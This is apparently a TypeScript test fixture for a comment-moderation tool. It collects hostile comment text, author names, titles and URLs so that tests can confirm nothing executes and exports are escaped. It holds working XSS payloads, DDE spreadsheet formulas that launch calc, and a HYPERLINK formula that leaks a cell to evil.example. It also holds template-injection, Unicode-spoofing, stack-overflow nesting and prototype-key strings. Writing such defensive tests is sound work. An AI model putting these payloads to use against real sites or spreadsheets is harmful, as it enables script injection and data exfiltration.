// The hostile corpus: what strangers and attackers put in comments, author names, article titles and links.
// Each payload goes through every importer, the WordPress connector, the table, the detail pane and every
// export; the tests assert nothing runs, the layout holds, and exports escape or quote it.

/** Text wrapped in `depth` nested <b> elements. */
export function deeplyNested(depth: number, text = 'buried'): string {
  return '<b>'.repeat(depth) + text + '</b>'.repeat(depth)
}

/** Set by any payload that manages to run script in the page. */
export const PWNED_FLAG = '__sieve_pwned'
const pwn = `window.${PWNED_FLAG}=1`

export const HOSTILE_TEXTS: Record<string, string> = {
  script: `<script>${pwn}</script>Nice article`,
  imgOnerror: `<img src=x onerror="${pwn}">`,
  svgOnload: `<svg onload="${pwn}"><circle r=5></svg>`,
  iframe: `<iframe src="javascript:${pwn}"></iframe>`,
  styleBreakout: `</style><script>${pwn}</script>`,
  jsLink: `click <a href="javascript:${pwn}">here</a>`,
  dataLink: `<a href="data:text/html,<script>${pwn}</script>">free money</a>`,
  formulaEquals: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
  formulaPlus: '+cmd|" /C calc"!A0',
  formulaMinus: '-2+3+cmd|" /C calc"!A0',
  formulaAt: '@SUM(1+1)*cmd|" /C calc"!A0',
  formulaTab: '\t=1+1',
  formulaCr: '\r=1+1',
  rtlOverride: 'harmless \u202Etxt.exe\u202C text',
  zeroWidth: 'i\u200Bd\u200Ci\u200Do\uFEFFt',
  nul: 'before\u0000after',
  templateInjection: '{{constructor.constructor("return this")()}} ${7*7} #{7*7}',
  htmlEntities: '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;',
  longWord: 'x'.repeat(5000),
  manyLines: Array.from({ length: 300 }, (_, i) => `line ${i}`).join('\n'),
  megabyte: 'A long rant. '.repeat(76_000),
  /** 35 KB that WordPress takes from any reader; converting it as HTML recursively overflows the stack. */
  deepNesting: deeplyNested(5000)
}

export const HOSTILE_AUTHORS = [`<img src=x onerror="${pwn}">`, '=cmd|"/C calc"!A0', '\u202Eevil\u202C', 'Zero\u200Bwidth']
export const HOSTILE_TITLES = [`<script>${pwn}</script>Story`, '=1+1 Story', '\u202EStory']
export const HOSTILE_URLS = [`javascript:${pwn}`, `data:text/html,<script>${pwn}</script>`, 'vbscript:msgbox(1)', 'https://news.example/story?x="><script>']

/** Hostile comments in Sieve's NDJSON interchange shape, each payload once, with hostile people and stories. */
export function hostileComments(): object[] {
  return Object.entries(HOSTILE_TEXTS).map(([name, text], i) => ({
    id: `hostile-${name}`,
    text,
    author: { id: `author-${i % HOSTILE_AUTHORS.length}`, name: HOSTILE_AUTHORS[i % HOSTILE_AUTHORS.length] },
    article: {
      id: `story-${i % HOSTILE_TITLES.length}`,
      title: HOSTILE_TITLES[i % HOSTILE_TITLES.length],
      url: HOSTILE_URLS[i % HOSTILE_URLS.length]
    },
    createdAt: '2026-08-16T10:00:00Z',
    reports: i % 3
  }))
}

/** Lines no importer should accept, each with why. */
export const BROKEN_NDJSON_LINES = [
  '{"id": "truncated", "text": "cut off',
  '{"id": "nested", "text": ' + '['.repeat(5000) + ']'.repeat(5000) + '}',
  'not json at all <script>',
  '{"id": "no-text"}',
  '[1, 2, 3]',
  '{"id": "' + 'i'.repeat(300) + '", "text": "id too long"}'
]

/**
 * Names every JavaScript object inherits: a lookup table that is a plain object "finds" them. Statuses,
 * field names, scorer names and settings keys from a file or a caller must find nothing under them.
 */
export const PROTOTYPE_NAMES = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf', 'isPrototypeOf', '__defineGetter__'] as const
